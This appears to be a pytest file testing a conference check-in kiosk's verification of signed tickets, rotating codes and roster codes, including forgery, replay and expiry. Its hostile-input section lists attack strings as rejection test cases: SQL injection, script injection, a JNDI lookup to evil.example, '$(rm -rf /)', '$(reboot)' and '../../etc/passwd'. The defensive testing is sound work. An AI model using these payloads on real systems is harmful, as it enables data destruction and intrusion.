"""Every code format and every verdict reason, with pinned clocks."""

from __future__ import annotations

import dataclasses
from datetime import UTC, datetime, timedelta

import pytest

from kiosk.core.codes import (
    MemoryReplayGuard,
    Reason,
    Ticket,
    VerdictKind,
    classify_and_verify,
    inspection_context,
    make_roster_code,
    make_rotating_code,
    sign_ticket,
    slot_of,
)
from kiosk.core.codes.verdict import messages
from kiosk.core.codes.wire import MAX_ATTENDEE_BYTES, MAX_KEY_ID_BYTES, MAX_PROJECT_BYTES
from kiosk.core.model import CheckInSettings
from tests.support.qr import PlatformKeys, qr_version
from tests.support.roster import DAY1, FakeClock, at, make_project

NOW = at(DAY1, 8, 15)
PROJECT = make_project()
ROSTER = {"A1", "A2", "A3"}


@pytest.fixture
def keys() -> PlatformKeys:
    return PlatformKeys()


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock(NOW)


def ctx(keys: PlatformKeys, clock: FakeClock, **changes: object):  # type: ignore[no-untyped-def]
    base = keys.context(PROJECT, clock=clock, roster=ROSTER)
    return dataclasses.replace(base, **changes)


def ticket(keys: PlatformKeys, attendee: str = "A1", **kw: object) -> str:
    return keys.ticket(PROJECT.number, attendee, start=at(DAY1, 0), **kw)  # type: ignore[arg-type]


# ---- tickets ------------------------------------------------------------------------------------


def test_valid_ticket_is_accepted_with_its_attendee(keys: PlatformKeys, clock: FakeClock) -> None:
    v = classify_and_verify(ticket(keys), context=ctx(keys, clock))
    assert (v.kind, v.reason, v.attendee_id, v.project) == (
        VerdictKind.TICKET,
        Reason.OK,
        "A1",
        PROJECT.number,
    )
    assert v.accepted and v.verified


def test_ticket_scanned_with_caps_lock_inverted_still_verifies(
    keys: PlatformKeys, clock: FakeClock
) -> None:
    assert classify_and_verify(ticket(keys).lower(), context=ctx(keys, clock)).accepted


def test_spare_bits_in_the_last_character_are_malformed(
    keys: PlatformKeys, clock: FakeClock
) -> None:
    payload = ticket(keys)
    body = payload[len("CME-TKT1:") :]
    assert len(body) * 5 % 8  # the last character has bits to spare
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
    spare = (1 << len(body) * 5 % 8) - 1  # the low bits beyond the last whole byte
    twin = payload[:-1] + alphabet[alphabet.index(payload[-1]) | spare]
    assert twin != payload
    v = classify_and_verify(twin, context=ctx(keys, clock))
    assert (v.reason, v.detail) == (Reason.MALFORMED, "not canonical base32")


def test_any_changed_character_breaks_the_ticket(keys: PlatformKeys, clock: FakeClock) -> None:
    payload = ticket(keys)
    body_start = len("CME-TKT1:")
    reasons = set()
    for i in range(body_start, len(payload)):
        flipped = "B" if payload[i] != "B" else "C"
        v = classify_and_verify(payload[:i] + flipped + payload[i + 1 :], context=ctx(keys, clock))
        assert not v.accepted, i
        reasons.add(v.reason)
    # Depending on the field hit: a broken length, another key id or project, or the signature.
    assert Reason.BAD_SIGNATURE in reasons and reasons <= {
        Reason.BAD_SIGNATURE,
        Reason.MALFORMED,
        Reason.UNKNOWN_KEY_ID,
        Reason.OTHER_PROJECT,
        Reason.NOT_YET_VALID,
        Reason.EXPIRED,
    }


@pytest.mark.parametrize("name", [f"key-{i}" for i in range(40)])
def test_the_last_character_matters_for_many_keys(name: str, clock: FakeClock) -> None:
    """Unpadded base32 has spare bits in its last character: they must not be a free choice."""
    keys = PlatformKeys(name)
    for payload in (ticket(keys), rotating(keys)):
        for other in "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".replace(payload[-1], ""):
            verdict = classify_and_verify(payload[:-1] + other, context=ctx(keys, clock))
            assert not verdict.accepted, (name, other)


def test_any_changed_character_breaks_the_rotating_code(
    keys: PlatformKeys, clock: FakeClock
) -> None:
    payload = rotating(keys)
    for i in range(payload.index(":") + 1, len(payload)):
        flipped = "B" if payload[i] != "B" else "C"
        changed = payload[:i] + flipped + payload[i + 1 :]
        assert not classify_and_verify(changed, context=ctx(keys, clock)).accepted, i


def test_non_canonical_base32_is_refused() -> None:
    from kiosk.core.codes.wire import WireError, b32decode, b32encode

    text = b32encode(b"\x01\x02\x03")  # 24 bits in 5 characters: the last carries 1 spare bit
    assert b32decode(text) == b"\x01\x02\x03" and b32decode(text.lower()) == b"\x01\x02\x03"
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
    spare = alphabet[alphabet.index(text[-1]) ^ 1]  # the same payload bits, the spare bit set
    with pytest.raises(WireError, match="canonical"):
        b32decode(text[:-1] + spare)


def test_ticket_signed_by_another_key_with_our_key_id_is_a_bad_signature(
    keys: PlatformKeys, clock: FakeClock
) -> None:
    forger = PlatformKeys("forger")
    forged = forger.ticket(PROJECT.number, "A1", start=at(DAY1, 0), key_id=keys.key_id)
    v = classify_and_verify(forged, context=ctx(keys, clock))
    assert (v.kind, v.reason, v.family) == (
        VerdictKind.REJECTED,
        Reason.BAD_SIGNATURE,
        VerdictKind.TICKET,
    )


def test_unknown_key_id_and_no_keys_at_all(keys: PlatformKeys, clock: FakeClock) -> None:
    other = PlatformKeys("other")
    payload = other.ticket(PROJECT.number, "A1", start=at(DAY1, 0))
    assert classify_and_verify(payload, context=ctx(keys, clock)).reason is Reason.UNKNOWN_KEY_ID
    empty = ctx(keys, clock, ticket_keys={})
    assert classify_and_verify(payload, context=empty).reason is Reason.NO_KEYS


def test_key_rotation_old_and_new_keys_both_verify(keys: PlatformKeys, clock: FakeClock) -> None:
    new = PlatformKeys("new")
    both = ctx(keys, clock, ticket_keys={keys.key_id: keys.public, new.key_id: new.public})
    for k in (keys, new):
        assert classify_and_verify(ticket(k), context=both).accepted


def test_validity_window(keys: PlatformKeys, clock: FakeClock) -> None:
    payload = keys.ticket(PROJECT.number, "A1", start=at(DAY1, 8), end=at(DAY1, 9))
    c = ctx(keys, clock)
    clock.now = at(DAY1, 7, 59).astimezone(UTC)
    assert classify_and_verify(payload, context=c).reason is Reason.NOT_YET_VALID
    clock.now = at(DAY1, 8).astimezone(UTC)
    assert classify_and_verify(payload, context=c).accepted
    clock.now = at(DAY1, 9).astimezone(UTC)  # the end is exclusive
    assert classify_and_verify(payload, context=c).reason is Reason.EXPIRED


def test_another_projects_ticket(keys: PlatformKeys, clock: FakeClock) -> None:
    payload = keys.ticket("2026-15-01-999", "A1", start=at(DAY1, 0))
    v = classify_and_verify(payload, context=ctx(keys, clock))
    assert (v.reason, v.project) == (Reason.OTHER_PROJECT, "2026-15-01-999")
    assert v.message_zh == "这是其他项目的签到码"


def test_genuine_ticket_for_someone_not_on_this_desks_roster(
    keys: PlatformKeys, clock: FakeClock
) -> None:
    v = classify_and_verify(ticket(keys, "A99"), context=ctx(keys, clock))
    assert v.reason is Reason.UNKNOWN_ATTENDEE and not v.accepted


def test_longest_ticket_fits_qr_version_10_at_level_m(keys: PlatformKeys) -> None:
    project = "项" * (MAX_PROJECT_BYTES // 3) + "x" * (MAX_PROJECT_BYTES % 3)
    attendee = "A" * MAX_ATTENDEE_BYTES
    t = Ticket(project, attendee, "k" * MAX_KEY_ID_BYTES, NOW, NOW + timedelta(days=400))
    payload = sign_ticket(t, keys.private)
    assert qr_version(payload) <= 10
    # A typical ticket is much smaller.
    assert qr_version(ticket(keys)) <= 7


def test_ticket_fields_are_checked_when_signing(keys: PlatformKeys) -> None:
    with pytest.raises(ValueError, match="project"):
        sign_ticket(
            Ticket("x" * (MAX_PROJECT_BYTES + 1), "A1", "k", NOW, NOW + timedelta(1)), keys.private
        )
    with pytest.raises(ValueError, match="attendee"):
        sign_ticket(Ticket("P", "A\n1", "k", NOW, NOW + timedelta(1)), keys.private)
    with pytest.raises(ValueError, match="ends before"):
        Ticket("P", "A1", "k", NOW, NOW)


# ---- rotating codes -----------------------------------------------------------------------------


def rotating(keys: PlatformKeys, attendee: str = "A1", *, when: datetime = NOW) -> str:
    return make_rotating_code(
        project=PROJECT.number, attendee_id=attendee, secret=keys.secret(attendee), at=when
    )


def test_rotating_code_current_and_neighbouring_slots(keys: PlatformKeys, clock: FakeClock) -> None:
    c = ctx(keys, clock)
    for offset in (-30, 0, 30):
        v = classify_and_verify(rotating(keys, when=NOW + timedelta(seconds=offset)), context=c)
        assert (v.kind, v.reason) == (VerdictKind.ROTATING, Reason.OK), offset
    v = classify_and_verify(rotating(keys, when=NOW - timedelta(seconds=60)), context=c)
    assert v.reason is Reason.EXPIRED and v.message_en == "Code expired, refresh it and scan again"
    v = classify_and_verify(rotating(keys, when=NOW + timedelta(seconds=60)), context=c)
    assert v.reason is Reason.NOT_YET_VALID


def test_same_slot_twice_is_a_replay(keys: PlatformKeys, clock: FakeClock) -> None:
    c = ctx(keys, clock)
    code = rotating(keys)
    assert classify_and_verify(code, context=c).accepted
    clock.advance(seconds=5)
    again = classify_and_verify(code, context=c)
    assert (again.reason, again.attendee_id) == (Reason.REPLAY, "A1")
    # The next slot's code is fine: the phone refreshed.
    clock.advance(seconds=30)
    assert classify_and_verify(rotating(keys, when=clock()), context=c).accepted


def test_forged_rotating_code_does_not_burn_the_real_slot(
    keys: PlatformKeys, clock: FakeClock
) -> None:
    c = ctx(keys, clock)
    forged = make_rotating_code(project=PROJECT.number, attendee_id="A1", secret=b"g" * 32, at=NOW)
    assert classify_and_verify(forged, context=c).reason is Reason.BAD_MAC
    assert classify_and_verify(rotating(keys), context=c).accepted


def test_rotating_code_of_someone_without_a_secret(keys: PlatformKeys, clock: FakeClock) -> None:
    code = make_rotating_code(project=PROJECT.number, attendee_id="A77", secret=b"s" * 32, at=NOW)
    assert classify_and_verify(code, context=ctx(keys, clock)).reason is Reason.UNKNOWN_ATTENDEE


def test_replay_guard_forgets_slots_that_can_no_longer_pass() -> None:
    guard = MemoryReplayGuard()
    base = slot_of(NOW)
    assert guard.claim(project="P", attendee_id="A1", slot=base)
    assert not guard.claim(project="P", attendee_id="A1", slot=base)
    assert guard.claim(project="P", attendee_id="A2", slot=base)
    guard.claim(project="P", attendee_id="A1", slot=base + 100)
    assert len(guard) == 1


# ---- roster codes -------------------------------------------------------------------------------


def allowing(keys: PlatformKeys, clock: FakeClock, allow: bool):  # type: ignore[no-untyped-def]
    project = dataclasses.replace(PROJECT, checkin=CheckInSettings(allow_plain_roster_codes=allow))
    return keys.context(project, clock=clock, roster=ROSTER)


def test_roster_codes_only_when_the_project_allows_them(
    keys: PlatformKeys, clock: FakeClock
) -> None:
    code = make_roster_code("A2")
    assert code == "CME-NUM1:A2"
    assert classify_and_verify(code, context=allowing(keys, clock, False)).reason is (
        Reason.ROSTER_CODES_DISABLED
    )
    v = classify_and_verify(code, context=allowing(keys, clock, True))
    assert (v.kind, v.attendee_id, v.accepted) == (VerdictKind.ROSTER_CODE, "A2", True)
    # A bare badge number printed by another system, when allowed.
    assert classify_and_verify("A3", context=allowing(keys, clock, True)).accepted
    assert classify_and_verify("A3", context=allowing(keys, clock, False)).reason is (
        Reason.UNKNOWN_PREFIX
    )
    assert classify_and_verify("A404", context=allowing(keys, clock, True)).reason is (
        Reason.UNKNOWN_ATTENDEE
    )


# ---- hostile and odd input ----------------------------------------------------------------------

INJECTIONS = [
    "'; DROP TABLE attendees; --",
    "A1' OR '1'='1",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "$(rm -rf /)",
    "../../etc/passwd",
    "http://evil.example/?q=CME-TKT1:",
    "CME-NUM1:A1';--",
    "CME-NUM1:../A1",
    "CME-TKT1:'; DROP TABLE x; --",
    "CME-ROT1:$(reboot)",
]


@pytest.mark.parametrize("payload", INJECTIONS)
def test_injection_strings_are_rejected_without_effect(
    payload: str, keys: PlatformKeys, clock: FakeClock
) -> None:
    v = classify_and_verify(payload, context=allowing(keys, clock, True))
    assert v.kind is VerdictKind.REJECTED
    assert v.reason in {Reason.UNKNOWN_PREFIX, Reason.MALFORMED}
    # Nothing of the payload beyond four characters reaches the log detail.
    assert payload[5:] not in v.detail or len(payload) <= 5


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        ("", Reason.EMPTY),
        ("X" * 513, Reason.OVERSIZED),
        ("项" * 200, Reason.OVERSIZED),  # 200 characters but 600 UTF-8 bytes
        (b"\xff\xfe\x00\x01garbage", Reason.BINARY),
        (b"CME-NUM1:A1\x00", Reason.BINARY),
        (b"\xc3\x28", Reason.BINARY),
        ("CME-NUM1:A1\r\n", Reason.CONTROL_CHARACTERS),
        ("CME-NUM1:A\x1b[2J", Reason.CONTROL_CHARACTERS),
        ("CME-NUM1:\u202eA1", Reason.CONTROL_CHARACTERS),  # right-to-left override
        ("CME-NUM1:A\u200b1", Reason.CONTROL_CHARACTERS),  # zero-width space
        ("HELLO:WORLD", Reason.UNKNOWN_PREFIX),
        ("https://weixin.qq.com/r/abc", Reason.UNKNOWN_PREFIX),
        ("CME-TKT2:AAAA", Reason.UNSUPPORTED_VERSION),
        ("CME-ROT9:AAAA", Reason.UNSUPPORTED_VERSION),
        ("CME-TKT1:", Reason.MALFORMED),
        ("CME-TKT1:AAAAAAAA", Reason.MALFORMED),
        ("CME-ROT1:0000", Reason.MALFORMED),
        ("CME-NUM1:", Reason.MALFORMED),
    ],
)
def test_bad_input_reasons(
    payload: str | bytes, reason: Reason, keys: PlatformKeys, clock: FakeClock
) -> None:
    v = classify_and_verify(payload, context=allowing(keys, clock, True))
    assert (v.kind, v.reason) == (VerdictKind.REJECTED, reason)
    assert v.message_zh and v.message_en


def test_every_reason_has_both_messages() -> None:
    for reason in Reason:
        zh, en = messages(reason)
        assert zh and en and zh != en


# ---- inspection (qr decode on a laptop) --------------------------------------------------------


def test_inspection_without_keys_says_what_it_could_not_check(keys: PlatformKeys) -> None:
    look = inspection_context(clock=lambda: NOW)
    v = classify_and_verify(ticket(keys), context=look)
    assert (v.kind, v.reason, v.accepted) == (VerdictKind.TICKET, Reason.UNVERIFIED_NO_KEY, False)
    assert v.message_en == "Signature unverifiable: no key"
    v = classify_and_verify(rotating(keys), context=look)
    assert (v.kind, v.reason) == (VerdictKind.ROTATING, Reason.UNVERIFIED_NO_SECRET)
    v = classify_and_verify(make_roster_code("A1"), context=look)
    assert (v.kind, v.reason) == (VerdictKind.ROSTER_CODE, Reason.UNVERIFIED_NO_ROSTER)
    # What it can judge, it does: the validity window and the project.
    late = inspection_context(clock=lambda: NOW + timedelta(days=30))
    assert classify_and_verify(ticket(keys), context=late).reason is Reason.EXPIRED
    other = inspection_context(clock=lambda: NOW, project_number="other")
    assert classify_and_verify(ticket(keys), context=other).reason is Reason.OTHER_PROJECT
